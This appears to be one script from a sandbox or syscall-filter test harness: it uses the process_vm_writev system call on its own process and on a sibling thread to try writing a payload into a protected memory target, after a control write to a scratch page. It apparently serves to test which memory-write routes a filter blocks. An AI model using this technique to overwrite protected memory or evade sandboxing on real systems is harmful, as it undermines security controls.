"""Route 2: process_vm_writev on itself (pid and another thread's tid). First on a scratch writable
page (shows the call itself works where the filter lets it), then on the target. Run: python r02_process_vm_writev.py"""
import ctypes, os, threading
from harness import run_route, en, sys_call, PROT_READ, PROT_WRITE, MAP_PRIVATE, MAP_ANON

class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

def pvw(libc, pid, dst, data):
    buf = ctypes.create_string_buffer(data, len(data))
    local, remote = iovec(ctypes.addressof(buf), len(data)), iovec(dst, len(data))
    r, e = sys_call(libc, 311, pid, ctypes.c_void_p(ctypes.addressof(local)), 1, ctypes.c_void_p(ctypes.addressof(remote)), 1, 0)
    return f"wrote {r}" if r >= 0 else en(e)

def attack(t):
    scratch = t.libc.mmap(None, t.page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANON, -1, 0)
    stop = threading.Event(); th = threading.Thread(target=stop.wait); th.start()
    res = [f"scratch:{pvw(t.libc, os.getpid(), scratch, b'x' * 16)}",
           f"target(pid):{pvw(t.libc, os.getpid(), t.dst, t.payload)}",
           f"target(tid):{pvw(t.libc, th.native_id, t.dst, t.payload)}"]
    stop.set(); th.join()
    return " ".join(res)

if __name__ == "__main__":
    run_route("r02_process_vm_writev", attack)
